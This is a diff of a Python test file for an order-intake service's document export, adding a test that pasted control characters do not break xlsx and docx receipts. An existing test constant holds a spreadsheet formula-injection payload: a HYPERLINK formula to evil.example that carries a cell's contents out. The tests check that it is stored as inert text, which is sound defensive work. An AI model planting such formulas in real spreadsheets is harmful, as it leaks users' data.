@@ -8,6 +8,7 @@ import httpx
 import openpyxl
 import pytest
 
+from tests.server.documents.builders import document_text
 from tests.server.orders.builders import intake, make_client, make_device
 
 NAME = '=HYPERLINK("http://evil.example/?d="&B5,"Подробнее")'
@@ -33,3 +34,16 @@ async def test_order_xlsx_writes_client_text_as_text(
     assert NAME in by_value and by_value[NAME].quotePrefix
     if kind == "receipt":
         assert by_value[FAULT].data_type == "s" and by_value[FAULT].quotePrefix
+
+
+@pytest.mark.parametrize("fmt", ["xlsx", "docx"])
+async def test_pasted_control_characters_do_not_break_office_documents(
+    admin_client: httpx.AsyncClient, fmt: str
+) -> None:
+    client_id = await make_client("Петров\x0b Пётр\x07", phone="+79161234567")
+    order = await intake(admin_client, client_id, declared_fault="Не\x1b включается")
+    response = await admin_client.get(
+        f"/api/v1/orders/{order['id']}/documents/receipt", params={"format": fmt}
+    )
+    assert response.status_code == 200, response.text
+    assert "Петров Пётр" in document_text(response.content, fmt)
